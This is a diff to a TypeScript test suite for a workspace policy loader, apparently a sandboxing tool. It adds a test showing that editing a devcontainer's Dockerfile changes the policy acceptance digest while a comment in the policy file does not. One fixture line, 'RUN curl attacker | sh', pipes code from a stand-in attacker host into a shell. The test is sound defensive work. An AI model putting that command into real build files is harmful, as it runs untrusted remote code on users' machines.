@@ -8,7 +8,7 @@ import { AirlockError } from '../../src/core/errors.js';
 import { PolicyFileError } from '../../src/core/policy/jsoncFile.js';
 import { PolicyAcceptances } from '../../src/core/policy/policyAcceptance.js';
 import { type EffectivePolicy, type MachineFloor, type ResolvedPolicy, type ResolveInput, resolvePolicy } from '../../src/core/policy/policyLayers.js';
-import { loadMachineFloor, loadMachineFloors, POLICY_FILE, policyForWorkspace } from '../../src/core/policy/policyLoader.js';
+import { loadMachineFloor, loadMachineFloors, loadWorkspacePolicy, POLICY_FILE, policyForWorkspace } from '../../src/core/policy/policyLoader.js';
 import { policyFileSchema, type PolicyFileInput, type PolicyLayer } from '../../src/core/policy/policySchema.js';
 import { makeTempDir, removeTempDirs, writeFiles } from '../helpers/tempWorkspace.js';
 
@@ -621,5 +621,21 @@ describe('policyForWorkspace and acceptance', () => {
     assert.equal(state.effective.policy.commands.default, 'ask');
     assert.ok(state.floors.some((floor) => floor.source === path.join(floorDir, 'floor.json')));
     assert.ok(fs.existsSync(path.join(floorDir, 'floor.json')));
+  });
+});
+
+describe('the acceptance digest', () => {
+  test('covers the Dockerfile a devcontainer builds: editing it asks again; a comment in .airlock.json does not', () => {
+    const workspace = makeTempDir('airlock-digest-');
+    writeFiles(workspace, {
+      [POLICY_FILE]: '{ "devcontainer": { "path": ".devcontainer/devcontainer.json" } }',
+      '.devcontainer/devcontainer.json': '{ "build": { "dockerfile": "Dockerfile" } }',
+      '.devcontainer/Dockerfile': 'FROM airlock-test:bookworm\nRUN true\n',
+    });
+    const first = loadWorkspacePolicy(workspace)!.digest;
+    fs.writeFileSync(path.join(workspace, POLICY_FILE), '// team policy\n{ "devcontainer": { "path": ".devcontainer/devcontainer.json" } }\n');
+    assert.equal(loadWorkspacePolicy(workspace)!.digest, first);
+    fs.writeFileSync(path.join(workspace, '.devcontainer/Dockerfile'), 'FROM airlock-test:bookworm\nRUN curl attacker | sh\n');
+    assert.notEqual(loadWorkspacePolicy(workspace)!.digest, first);
   });
 });
